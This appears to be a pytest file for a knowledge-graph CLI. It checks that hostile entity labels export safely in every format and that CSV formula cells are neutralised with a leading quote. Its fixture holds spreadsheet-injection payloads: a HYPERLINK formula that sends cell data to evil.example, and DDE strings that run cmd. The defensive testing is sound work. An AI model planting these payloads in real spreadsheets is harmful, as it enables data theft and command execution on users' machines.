"""Labels a hostile article can put in the graph: every export stays readable, and CSV cells cannot run formulas."""

from __future__ import annotations

import csv
import io
import re

import pytest
from click.testing import CliRunner

from kg.cli import cli
from kg.export.registry import FORMATS
from tests.helpers import DOCUMENTS, copy_case, edit

#: controls XML 1.0 forbids even as references, a noncharacter, and a DEL (allowed)
CONTROLS = "Globex\\x01\\x0b\\x1b[2J\\x7f\\uFFFE"
#: what a spreadsheet would run as a formula
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-labels")
    case = copy_case(root)
    edit(case / "entities.yaml", "    label: Globex\n", f'    label: "{CONTROLS}"\n')
    extra = "".join(f'  - id: formula-{n}\n    type: Organization\n    label: "{text.replace(chr(34), chr(92) + chr(34))}"\n'
                    for n, text in enumerate(FORMULAS))
    edit(case / "entities.yaml", "entities:\n", "entities:\n" + extra)
    store = root / "store"
    result = CliRunner().invoke(cli, ["build", str(case), "--documents", str(DOCUMENTS), "--store", str(store),
                                      "--out", str(root / "out")])
    assert result.exit_code == 0, result.output
    return store


def _export(store, format_name, target):
    result = CliRunner().invoke(cli, ["export", "--format", format_name, "-o", str(target), "--store", str(store)])
    assert result.exit_code == 0, result.output
    return target


def _read(format_name, path):
    """Read the file back with the tool a user would; a list of every label-ish string found."""
    import networkx as nx
    from rdflib import Dataset, Graph
    from rdflib.namespace import RDFS

    if format_name == "graphml":
        return [attrs.get("label", "") for _, attrs in nx.read_graphml(path).nodes(data=True)]
    if format_name in ("gexf", "stance-network"):
        return [attrs.get("label", "") for _, attrs in nx.read_gexf(path).nodes(data=True)]
    if format_name in ("html", "unresolved"):  # pages and reports: whole UTF-8 files that name the item
        files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
        return [f.read_text(encoding="utf-8") for f in files]
    if format_name == "csv":
        with open(path / "nodes.csv", encoding="utf-8", newline="") as handle:
            return [row["label"] for row in csv.DictReader(handle)]
    graph = Dataset() if format_name in ("trig", "nquads") else Graph()
    graph.parse(path, format={"turtle": "turtle", "trig": "trig", "nquads": "nquads", "jsonld": "json-ld"}[format_name])
    return [str(o) for o in graph.objects(None, RDFS.label)] if format_name not in ("trig", "nquads") else [
        str(o) for _, _, o, _ in graph.quads((None, RDFS.label, None, None))]


@pytest.mark.parametrize("format_name", sorted(FORMATS))
def test_every_format_with_control_characters_in_a_label_reads_back(hostile_store, tmp_path, format_name):
    labels = _read(format_name, _export(hostile_store, format_name, tmp_path / f"kg.{format_name}"))
    if format_name in ("html", "unresolved"):
        assert labels and all("Globex" in text for text in labels[:1])
        return
    if format_name == "stance-network":  # parties only: Globex speaks in the mini case
        assert any(label.startswith("Globex\\x01") for label in labels), labels
        return
    if format_name in ("graphml", "gexf"):
        # XML 1.0 cannot hold them at all: they are written as visible escapes
        assert "Globex\\x01\\x0b\\x1b[2J\x7f\\ufffe" in labels, labels
    else:
        assert "Globex\x01\x0b\x1b[2J\x7f\ufffe" in labels, labels


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile_store, tmp_path):
    folder = _export(hostile_store, "csv", tmp_path / "csv")
    text = (folder / "nodes.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    labels = {row["id"].rsplit("/", 1)[1]: row["label"] for row in rows}
    assert [labels[f"formula-{n}"] for n in range(len(FORMULAS))] == ["'" + t for t in FORMULAS]
    for row in rows:
        for cell in row.values():  # numbers stay numbers (-1 is a number, not a formula)
            assert re.fullmatch(r"-?\d+(\.\d+)?", cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
